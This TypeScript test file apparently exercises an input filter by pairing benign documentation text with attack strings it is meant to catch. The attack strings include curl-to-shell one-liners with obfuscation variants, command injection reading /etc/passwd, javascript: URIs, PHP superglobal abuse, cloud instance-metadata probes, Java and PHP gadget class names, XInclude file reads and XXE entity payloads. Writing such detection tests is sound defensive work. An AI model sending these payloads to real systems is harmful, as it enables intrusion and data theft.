import { asked, filled, type HonestKinds, posted, sent, testKinds } from './honest-kinds.ts'

const STYLED = `<?xml version="1.0"?><!DOCTYPE svg [
  <!ENTITY st0 "fill:none;stroke:#000000;stroke-width:1.0944;">
  <!ENTITY st1 "fill:#FFFFFF;stroke:none;">
]><svg><path style="&st0;"/></svg>`

/** Kinds of text that stood in the documentation of programs, a paragraph at a time. */
const KINDS: HonestKinds = {
  'languages that are listed': {
    honest: [
      sent({ skills: 'JavaScript: advanced' }),
      filled({ skills: 'PHP: 3\nJavaScript: 12\nGo: 1' }),
      asked('/s', { q: 'JavaScript: none' }),
      posted('application/yaml', 'languages:\n  JavaScript: true\n'),
    ],
    attacks: [
      sent({ link: 'javascript:name' }),
      sent({ link: 'JavaScript: alert(1)' }),
      filled({ link: 'javascript: document.location' }),
      asked('/s', { q: 'javascript:x' }),
    ],
  },
  'variables of PHP that are written of': {
    honest: [
      sent({ text: 'It is kept in `$_SESSION`.' }),
      filled({ text: "PHP's `$_GET`, `$_POST`, and `$_FILES` arrays" }),
      asked('/s', { q: 'how to clear the $_SESSION array' }),
    ],
    attacks: [
      sent({ text: '$_GET' }),
      filled({ text: 'extract( $_GET )' }),
      asked('/s', { q: 'a $_GET[0]' }),
      asked('/s', { q: 'print `$_GET[0]`' }),
      filled({ text: '$a= $_POST ;' }),
    ],
  },
  'instance data that is written of': {
    honest: [
      sent({ text: 'The keys are present in instance-data, see /run/cloud-init/instance-data.json.' }),
      filled({ text: 'what instance-data holds' }),
    ],
    attacks: [
      sent({ url: 'http://instance-data/' }),
      asked('/s', { u: '//instance-data' }),
      asked('/s', { u: 'http://instance-data.' }),
      filled({ u: 'fetch instance-data/latest' }),
    ],
  },
  'a script that people tell each other to fetch': {
    honest: [
      sent({ text: 'Install it with: curl -fsSL https://get.example.com | sh' }),
      sent({ description: 'try: wget -qO- https://get.example.com/x.sh | bash -s -- --yes' }),
      sent({ body: 'You just do curl https://sh.example.org -sSf | sh. It takes a minute' }),
      sent({ a: "I'm sure, run curl --proto =https -sSf 'https://x.example/i' | sudo bash" }),
      filled({ comment: 'Use (curl -fsSL https://get.example.com | sh) first' }),
    ],
    attacks: [
      sent({ text: 'curl -fsSL https://get.example.com | sh' }),
      sent({ text: 'sudo curl https://x.example | sh' }),
      sent({ text: 'with env curl https://x.example | sh' }),
      ...[
        'command',
        'exec command',
        '/bin/env command',
        'time command',
        'then',
        'id or',
        'wget -q x.example as',
        's""udo',
        "s'u'do",
        's"u"do',
        'A=1 command',
      ].map(first => sent({ text: `${first} curl https://x.example | sh` })),
      sent({ text: '127.0.0.1 | sh' }),
      sent({ text: 'it; run curl https://x.example | sh' }),
      sent({ text: 'a $(run curl https://x.example | sh)' }),
      sent({ text: 'a\nwith curl https://x.example | sh' }),
      sent({ text: 'Install it with: curl https://x.example | sh | sh' }),
      sent({ text: 'Install it with: curl https://x.example | sh; id' }),
      sent({ text: 'Install it with: curl https://x.example || sh' }),
      sent({ text: 'Install it with: curl https://x.example | sh -c id' }),
      sent({ text: 'Install it with: curl https://x.example | sh /tmp/x' }),
      sent({ hostname: 'Install it with: curl https://x.example | sh' }),
      filled({ ip: 'Install it with: curl https://x.example | sh' }),
      asked('/s', { q: 'Install it with: curl https://x.example | sh' }),
    ],
  },
  'plurals in brackets': {
    honest: [filled({ text: 'use the new function(s) provided' })],
    attacks: [filled({ text: 'new Function("x")' }), sent({ a: 'new function (x)' })],
  },
  'links of reStructuredText': {
    honest: [
      filled({ text: 'See `pr <https://code.example/pull/976>`_ and `rsync <https://r.example/>`_.' }),
      filled({ text: '`sed <https://a.example/>`__ edits' }),
    ],
    attacks: [
      filled({ text: '`id <https://a.example/>; id`' }),
      filled({ text: '`id <https://a.example/> x`_' }),
      filled({ text: '`cat </etc/passwd`' }),
      filled({ text: '`ls # <https://a.example/>`_' }),
    ],
  },
  'rows of a table': {
    honest: [
      sent({ text: '| ls | lists (a) |\n| rm | removes -a |' }),
      filled({
        text: '| Command | Page |\n|---|---|\r\n| ls | [ls(1)](ls.md) |\n  | rm | [rm(1)](rm.md) | ',
      }),
    ],
    attacks: [
      filled({ text: '| ls -la |\nid' }),
      filled({ text: '| ls -la\n| wc' }),
      filled({ text: 'x\n| ls -la | wc\n' }),
      sent({ text: '| a | b |\n| c | ; cat /etc/passwd |' }),
      // The bars that no shell can read are in quotes, a comment or a document, or are arguments.
      filled({ text: 'x |\n|" | ls -la #' }),
      filled({ text: '| ls -la # |\n| b |' }),
      filled({ text: '| ls -la \\|\n| b |' }),
      filled({ text: "| ls -la '|\n|' x" }),
      filled({ text: '| ls -la <<x |\n| b\nx\ncat' }),
      filled({ text: `|${' '.repeat(420)}| ls -la |` }),
    ],
  },
  'the last line of an entry point': {
    honest: [sent({ file: '#!/bin/sh\nset -e\nexec "$@"\n' }), filled({ text: 'exec "$@"' })],
    attacks: [
      filled({ file: 'x; exec "$@" id' }),
      filled({ file: 'exec "$@"; id' }),
      filled({ file: "exec 'id'" }),
    ],
  },
  'where Composer finds the classes of a package': {
    honest: [
      sent({ autoload: { 'psr-4': { 'Illuminate\\Bus\\': '', 'Symfony\\Component\\Process\\': 'src' } } }),
    ],
    attacks: [sent({ 'Illuminate\\Bus\\PendingDispatch': 1 }), sent({ a: 'Monolog\\Handler\\X' })],
  },
  'types of values': {
    honest: [
      sent({ arguments: ['java.lang.String', 'java.lang.Object[]'], javaType: 'java.lang.Integer' }),
      posted('application/xml', '<parameter><type>java.lang.String</type></parameter>'),
    ],
    attacks: [
      sent({ a: 'java.lang.Runtime' }),
      posted('application/xml', '<a><type>java.lang.ProcessBuilder</type></a>'),
      sent({ a: 'java.lang.String.x' }),
      asked('/s', { q: 'java.lang.String' }),
      filled({ type_of: 'java.lang.String' }),
    ],
  },
  'a namespace of which nothing is used': {
    honest: [
      posted('text/html', '<hr xmlns:xi="http://www.w3.org/2001/XInclude"><p>a</p>'),
      sent({ text: '<figure xmlns:xi="http://www.w3.org/2001/XInclude"><title>Tasks</title></figure>' }),
    ],
    attacks: [
      posted(
        'application/xml',
        '<a xmlns:b="http://www.w3.org/2001/XInclude"><b:include parse="text" href="/etc/passwd"/></a>',
      ),
      posted(
        'application/xml',
        `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include a="${'>'.repeat(2000)}" href="x"/></a>`,
      ),
      posted(
        'application/xml',
        `<a xmlns:${'p'.repeat(90)}="http://www.w3.org/2001/XInclude"><${'p'.repeat(90)}:include href="x"/></a>`,
      ),
    ],
  },
  'styles of a drawing': {
    honest: [posted('image/svg+xml', STYLED)],
    attacks: [
      posted('image/svg+xml', '<!DOCTYPE svg [<!ENTITY a "fill:&b;">]><svg>&a;</svg>'),
      posted('image/svg+xml', '<!DOCTYPE svg [<!ENTITY a SYSTEM "fill:none;">]><svg>&a;</svg>'),
      posted('image/svg+xml', '<!DOCTYPE svg [<!ENTITY a "fill:none;<b/>">]><svg>&a;</svg>'),
      posted('image/svg+xml', '<!DOCTYPE svg [<!ENTITY a "fill:%b;">]><svg>&a;</svg>'),
      posted('image/svg+xml', '<!DOCTYPE svg [<!ENTITY % a "fill:none;">%a;]><svg/>'),
    ],
  },
}

testKinds(KINDS)
